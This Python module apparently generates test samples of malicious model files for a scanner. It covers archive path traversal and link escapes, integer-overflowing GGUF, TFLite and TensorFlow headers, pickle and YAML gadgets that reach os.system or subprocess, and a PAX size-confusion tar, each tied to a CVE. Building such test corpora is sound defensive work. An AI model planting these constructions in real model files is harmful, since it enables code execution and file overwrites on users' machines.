"""Advisories of formats that no sample of the other modules carries, one sample or more each."""

import tarfile
from struct import pack

from malicious_archives import EVIL4, NOTE, OUT
from malicious_files import Entry, gz, tarred, zipped
from malicious_graphs import tflite
from malicious_headers import gguf, pair, tensor, text
from malicious_ops import NOWHERE, SHELL, URL, Call, Glob, dump, system
from malicious_tables import flax
from malicious_tensors import (WEIGHTS, external, field, message, onnx, onnx_graph, onnx_tensor, paddle, saved_model, tf_attr, tf_graph,
                               tf_node)

LINK = {"type": tarfile.SYMTYPE}
HARD = {"type": tarfile.LNKTYPE}


def graphs(corpus):
    """ONNX, TensorFlow and flat buffers."""
    def add(slug, name, data, technique, advisory, group="onnx"):
        corpus.add(group, slug, name, data, technique, advisory)

    plain = onnx(onnx_graph(tensors=[onnx_tensor(raw=WEIGHTS)]))
    beside = external(("location", "weights.bin"), ("offset", "0"), ("length", "16"))
    add("test-data", "model.tar.gz", gz(tarred([("m/model.onnx", plain), ("m/../../../" + OUT + "input_0.pb", NOTE)])),
        "test data that is written outside", "CVE-2024-5187")
    add("test-data-link", "model.tar", tarred([("m/model.onnx", plain), ("m/test_data_set_0", b"", LINK | {"linkname": NOWHERE}),
                                               ("m/test_data_set_0/input_0.pb", NOTE)]), "test data written through a link", "CVE-2024-5187")
    add("save", "model.onnx", external(("location", "../../" + OUT + "w.bin"), ("length", "16")), "weights that are saved outside", "CVE-2025-51480")
    add("link", "model.tar", tarred([("model.onnx", beside), ("weights.bin", b"", LINK | {"linkname": "/etc/hostname"})]),
        "weights that are a link out", "CVE-2026-27489")
    add("link-climbs", "model.zip", zipped([Entry("model.onnx", beside), Entry("weights.bin", b"../../secret", mode=0o120777)]),
        "weights that are a link out, ZIP", "CVE-2026-34447")
    add("hard-link", "model.tar", tarred([("model.onnx", beside), ("weights.bin", b"", HARD | {"linkname": "../../secret"})]),
        "weights that are a hard link out", "CVE-2026-34447")

    def flat(slug, technique, advisory, **parts):
        add(slug, "model.tflite", tflite(**parts), technique, advisory, "graphs")

    flat("array-size", "bytes of a tensor overflow", "CVE-2022-23558", shape=(2**31 - 1, 2**31 - 1))
    flat("lookup-shape", "lookup whose output size overflows", "CVE-2022-23559", code=33, shape=(2**30, 2**30, 2**30))
    big = message([(1, 1), (2, message([(2, [message([(1, 1 << 40)]), message([(1, 1 << 40)])])])), (5, b"\0\0\0\0")])
    add("shape-product", "saved_model.pb", saved_model(tf_graph(tf_node("x", "Const", (), tf_attr("value", field(8, big))))),
        "product of the extents overflows", "CVE-2021-29541", "tensorflow")
    add("read-file", "inference.pdmodel", paddle(("read_file", {"filename": "/etc/hostname"})), "reads a file through an operator",
        "CVE-2024-0521", "paddle")
    for count, advisory, technique in (((1 << 61) + 1, "CVE-2024-23605", "count of pairs wraps"), (1 << 62, "CVE-2024-25664", "count of pairs")):
        add("pairs", "model.gguf", gguf(pair_count=count), technique, advisory, "gguf")
    for number, advisory in ((1 << 59, "CVE-2024-21836"), (1 << 60, "CVE-2024-25666")):
        add("tensors", "model.gguf", gguf(tensor_count=number), "count of tensors wraps when multiplied", advisory, "gguf")
    wrapped = (1 << 64) - 1
    for advisory in ("CVE-2024-23496", "CVE-2024-25665"):
        add("text", "model.gguf", gguf([text("general.name") + pack("<IQ", 8, wrapped)]), "length of a text plus one is zero", advisory, "gguf")
    for advisory, kind, size in (("CVE-2024-21825", 8, (1 << 60) + 1), ("CVE-2024-25667", 4, 1 << 62), ("CVE-2024-25668", 8, 1 << 60)):
        add("array", "model.gguf", gguf([pair("tokenizer.ggml.tokens", 9, pack("<IQ", kind, size))]), "bytes of an array wrap", advisory, "gguf")
    add("dimensions", "model.gguf", gguf(tensors=[tensor(dims=(1,) * 4, count=4096)]), "more dimensions than there is room for", "CVE-2024-21802",
        "gguf")


def packages(corpus):
    """NeMo, MLflow, tar and the rest."""
    config = ("./model_config.yaml", b"target: nemo.collections.asr.models.EncDecCTCModel\n")

    def nemo(slug, entries, technique, advisory):
        corpus.add("nemo", slug, "model.nemo", tarred([config, *entries]), technique, advisory)

    nemo("climbs", [("./" + OUT + "a.txt", NOTE)], "entry outside the folder", "CVE-2024-0129")
    nemo("climbs-link", [("./d", b"", LINK | {"linkname": "/nonexistent"}), ("./d/a.txt", NOTE)], "entry through a link", "CVE-2025-23250")
    nemo("weights", [("./model_weights.ckpt", EVIL4)], "pickle in the weights", "CVE-2026-24157")
    nemo("tokenizer", [("./model_weights.ckpt", b"\x80\x02}q\x00."), ("./tokenizer.pkl", EVIL4)], "pickle beside the weights", "CVE-2026-24159")
    corpus.add("advisory", "mailcap", "model.pkl", dump(Call(Glob("mailcap", "findmatch"), {"a/b": [{"view": "", "test": SHELL}]}, "a/b", "view")),
               "gadget missing from modelscan", "modelscan-pr-346")
    for advisory, slug, tree in (
            ("CVE-2020-13092", "sklearn", system()),
            ("CVE-2022-45907", "type-line", Call(Glob("torch.jit.annotations", "parse_type_line"), "# type: (__import__('os')) -> None", None, 0)),
            ("CVE-2024-48063", "remote-module", Call(Glob("torch.distributed.nn.api.remote_module", "_recursive_script_module_reducer"), SHELL)),
            ("CVE-2024-5480", "python-udf", Call(Glob("torch.distributed.rpc.internal", "_run_function"),
                                                 Call(Glob("torch.distributed.rpc.internal", "PythonUDF"), Glob("os", "system"), (SHELL,), {})))):
        corpus.add("advisory", slug, "model.joblib" if slug == "sklearn" else "model.pt", dump(tree), "callable of a published advisory", advisory)
    far = "/".join(["d" * 247] * 16)
    corpus.add("archive-paths", "long-links", "model.tar",
               tarred([("d" * 247, b""), ("a", b"", LINK | {"linkname": far}), ("e", b"", LINK | {"linkname": "a/" + "../" * 18 + "cleanbill-inert"}),
                       ("e/x", NOTE)]), "links that end outside once the path is too long to resolve", "CVE-2025-4517")
    inner = tarred([("model.pkl", EVIL4)]).rstrip(b"\0")
    inner += b"\0" * (-len(inner) % 512)
    first = tarfile.TarInfo("weights.bin")
    record = f"{len(str(len(inner))) + 9} size={len(inner)}\n".encode()
    more = tarfile.TarInfo("PaxHeaders/weights.bin")
    more.type, more.size = tarfile.XHDTYPE, len(record)
    two_sizes = more.tobuf(tarfile.USTAR_FORMAT) + record.ljust(512, b"\0") + first.tobuf(tarfile.USTAR_FORMAT) + inner + b"\0" * 1024
    corpus.add("archives", "two-sizes", "model.tar", two_sizes, "entry whose two sizes make two lists of entries", "CVE-2025-62518")
    corpus.add("mlflow", "code-path", "MLmodel", f"artifact_path: model\nflavors:\n  python_function:\n    loader_module: mlflow.sklearn\n"
               f"    model_path: {URL}/../../../x\n".encode(), "artifact at an address that climbs", "CVE-2024-0520", textual=True)
    corpus.add("hydra", "yaml-object", "params.yaml", b"a: !!python/object/apply:subprocess.check_output [[echo]]\n",
               "YAML tag that the old default loader followed", "CVE-2017-18342", textual=True)
    corpus.add("msgpack", "object-array", "flax_model.msgpack", flax(b"O", 2, bytes(16)), "array of Python objects", "CVE-2019-6446")


def build(corpus):
    """Adds to the groups of the formats."""
    graphs(corpus)
    packages(corpus)
